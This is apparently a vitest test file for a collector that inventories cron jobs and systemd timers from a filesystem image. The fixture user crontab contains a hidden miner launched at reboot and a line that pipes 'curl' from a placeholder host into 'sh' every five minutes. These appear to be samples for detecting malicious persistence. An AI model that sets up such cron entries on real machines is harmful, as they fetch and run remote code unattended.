import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { needService } from '../../test/support/services.js';
import { HostView } from '../view/host-view.js';
import { cronJobs } from './cron-jobs.js';
import { buildRootfs, unpackAlpineRootfs } from './rootfs-fixture.js';

const now = () => new Date('2026-01-01T00:00:00Z');

describe('cron jobs', () => {
  it('reads crontab, cron.d, user crontabs, period directories and enabled systemd timers', async () => {
    const rootfs = await buildRootfs({
      'etc/crontab': 'SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n',
      'etc/cron.d/certbot': '0 */12 * * * root test -x /usr/bin/certbot && perl -e \'sleep int(rand(43200))\' && certbot -q renew\n',
      'etc/cron.d/ignored.dpkg-old': '* * * * * root /bin/old\n',
      'etc/cron.d/garbage': Buffer.from([0x2a, 0x20, 0x00, 0xff, 0xfe]),
      'var/spool/cron/crontabs/alice': '@reboot /home/alice/bin/start-miner --quiet\nthis is not a job\n*/5 * * * * curl -s http://example.invalid/x | sh\n',
      'etc/cron.daily/logrotate': { content: '#!/bin/sh\n', mode: 0o755 },
      'etc/cron.daily/README.txt': 'ignored by run-parts\n',
      'usr/lib/systemd/system/backup.timer': '[Timer]\nOnCalendar=*-*-* 02:00:00\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n',
      'usr/lib/systemd/system/backup.service': '[Service]\nType=oneshot\nUser=backup\nExecStart=/usr/local/bin/backup --all\n',
      'usr/lib/systemd/system/unused.timer': '[Timer]\nOnCalendar=weekly\n',
      'usr/lib/systemd/system/pg_dump@.timer': '[Timer]\nOnCalendar=daily\nUnit=pg_dump@%i.service\n',
      'usr/lib/systemd/system/pg_dump@.service': '[Service]\nUser=postgres\nExecStart=/usr/bin/pg_dump %i\n',
      'etc/systemd/system/timers.target.wants/backup.timer': { symlink: '/usr/lib/systemd/system/backup.timer' },
      'etc/systemd/system/timers.target.wants/pg_dump@main.timer': { symlink: '/usr/lib/systemd/system/pg_dump@.timer' },
    });
    try {
      const { items, warnings } = await cronJobs.collect(rootfs.view, { now });
      expect(warnings).toEqual([
        { source: 'cron-jobs', path: '/etc/cron.d/garbage', message: 'binary content where text was expected: skipped' },
        { source: 'cron-jobs', path: '/var/spool/cron/crontabs/alice', message: 'line 2: not a cron job line' },
      ]);
      expect(items).toEqual([
        { schedule: '17 * * * *', user: 'root', command: 'cd / && run-parts --report /etc/cron.hourly', source: '/etc/crontab', sourceKind: 'crontab', line: 4 },
        { schedule: '0 */12 * * *', user: 'root', command: "test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew", source: '/etc/cron.d/certbot', sourceKind: 'cronD', line: 1 },
        { schedule: '@reboot', user: 'alice', command: '/home/alice/bin/start-miner --quiet', source: '/var/spool/cron/crontabs/alice', sourceKind: 'userCrontab', line: 1 },
        { schedule: '*/5 * * * *', user: 'alice', command: 'curl -s http://example.invalid/x | sh', source: '/var/spool/cron/crontabs/alice', sourceKind: 'userCrontab', line: 3 },
        { schedule: '@daily', user: 'root', command: '/etc/cron.daily/logrotate', source: '/etc/cron.daily', sourceKind: 'periodic', line: null },
        { schedule: 'OnCalendar=*-*-* 02:00:00', user: 'backup', command: '/usr/local/bin/backup --all', source: '/usr/lib/systemd/system/backup.timer', sourceKind: 'systemdTimer', line: null },
        { schedule: 'OnCalendar=daily', user: 'postgres', command: '/usr/bin/pg_dump %i', source: '/usr/lib/systemd/system/pg_dump@.timer', sourceKind: 'systemdTimer', line: null },
      ]);
    } finally {
      await rootfs.remove();
    }
  });

  it("reads busybox's /etc/crontabs in the real alpine image", async () => {
    const alpine = await unpackAlpineRootfs();
    try {
      const { items, warnings } = await cronJobs.collect(alpine.view, { now });
      expect(warnings).toEqual([]);
      expect(items.map((j) => `${j.user} ${j.schedule} ${j.command}`)).toEqual([
        'root */15 * * * * run-parts /etc/periodic/15min',
        'root 0 * * * * run-parts /etc/periodic/hourly',
        'root 0 2 * * * run-parts /etc/periodic/daily',
        'root 0 3 * * 6 run-parts /etc/periodic/weekly',
        'root 0 5 1 * * run-parts /etc/periodic/monthly',
      ]);
    } finally {
      await alpine.remove();
    }
  });

  it('finds the enabled timers systemctl lists on this machine', async (context) => {
    let listed: string;
    try {
      listed = execFileSync('systemctl', ['list-unit-files', '--type=timer', '--state=enabled', '--no-legend', '--no-pager'], { encoding: 'utf8' });
    } catch (error) {
      // systemctl exits 1 when nothing matches; other failures mean it is not there.
      const stdout = (error as { stdout?: string }).stdout;
      if (typeof stdout === 'string' && stdout.trim() === '') listed = '';
      else if (!needService('systemctl', { available: false, reason: String(error) })) return context.skip();
      else throw error;
    }
    const expected = listed.trim().split('\n').filter(Boolean).map((line) => line.trim().split(/\s+/)[0]).sort();
    const { items, warnings } = await cronJobs.collect(new HostView(), { now });
    expect(warnings).toEqual([]);
    expect(items.filter((j) => j.sourceKind === 'systemdTimer').map((j) => j.source.split('/').pop()).sort()).toEqual(expected);
  });
});
